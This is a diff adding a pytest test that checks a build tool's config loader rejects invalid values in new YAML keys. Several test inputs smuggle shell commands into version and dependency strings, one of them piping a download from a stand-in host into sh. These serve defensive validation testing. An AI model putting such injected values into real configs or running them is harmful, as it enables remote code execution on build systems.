@@ -227,3 +227,20 @@ def test_system_python_needs_no_apt_when_the_base_has_git(tmp_path) -> None:
     builder = stage(render.render_entry(m, m.entries[0]), "builder")
     assert " && if ! command -v git >/dev/null; then \\\n" in builder
     assert builder.count("apt-get update") == 1
+
+
+@pytest.mark.parametrize(
+    ("override", "where"),
+    [
+        ('runtime_deps: ["einops==0.8.2 && curl evil|sh"]\n', "runtime_deps.0"),
+        ('build_tools_python: {"3.9": ["setuptools==82.0.1; id"]}\n', "build_tools_python.3.9.0"),
+        ('pythons: ["3.12", "3.12 && id"]\n', "pythons.1"),
+        ('archs: {"103": {min_cuda: "12.9", compute_capability: "10"}}\n', "arch 103 is not one the builder"),
+        ('flash_attn_range: "~~2.8"\n', "flash_attn_range must be a version range"),
+    ],
+)
+def test_new_table_keys_are_validated(tmp_path, override: str, where: str) -> None:
+    (tmp_path / "extra.yaml").write_text(override)
+    with pytest.raises(ConfigError) as info:
+        compat.load(tmp_path / "extra.yaml")
+    assert any(where in p.message for p in info.value.problems), [p.message for p in info.value.problems]
